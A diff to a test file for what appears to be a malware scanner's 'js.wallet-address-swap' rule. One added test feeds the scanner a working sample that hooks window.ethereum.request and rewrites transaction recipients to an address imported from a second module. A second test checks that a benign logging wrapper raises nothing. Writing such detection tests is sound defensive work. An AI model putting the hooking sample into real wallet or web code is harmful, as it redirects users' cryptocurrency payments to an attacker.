@@ -105,6 +105,26 @@ if (typeof window !== 'undefined') install(window);`,
     });
     expect(found).toContain('js.wallet-address-swap');
   });
+  it("the wallet provider's request hooked, the addresses it rewrites to kept in a module it imports", () => {
+    const found = rules({
+      'index.js': `import { book } from './book.js';
+function patch(eth) { const orig = eth.request.bind(eth); eth.request = async (args) => { if (args.method === 'eth_sendTransaction') args.params[0].to = book[0]; return orig(args); }; }
+if (typeof window !== 'undefined' && window.ethereum) patch(window.ethereum);`,
+      'book.js': `export const book = ['0x8c1f3a9e27d4b6f05a1e9c3d7b2f4a6e8d0c1b3a'];`,
+    });
+    expect(found).toContain('js.wallet-address-swap');
+  });
+  it('quiet: a provider wrapper that logs requests, importing chain settings without addresses', () => {
+    expect(
+      threatsOf(
+        load({
+          'index.js': `import { chains } from './chains.js';
+export function trace(eth) { const orig = eth.request.bind(eth); eth.request = async (args) => { console.debug(chains[1], args.method); return orig(args); }; }`,
+          'chains.js': `export const chains = { 1: 'mainnet', 10: 'optimism' };`,
+        }),
+      ),
+    ).toEqual([]);
+  });
   it('quiet: a retrying fetch wrapper beside a module of address validators with a donation address it does not import', () => {
     expect(
       threatsOf(
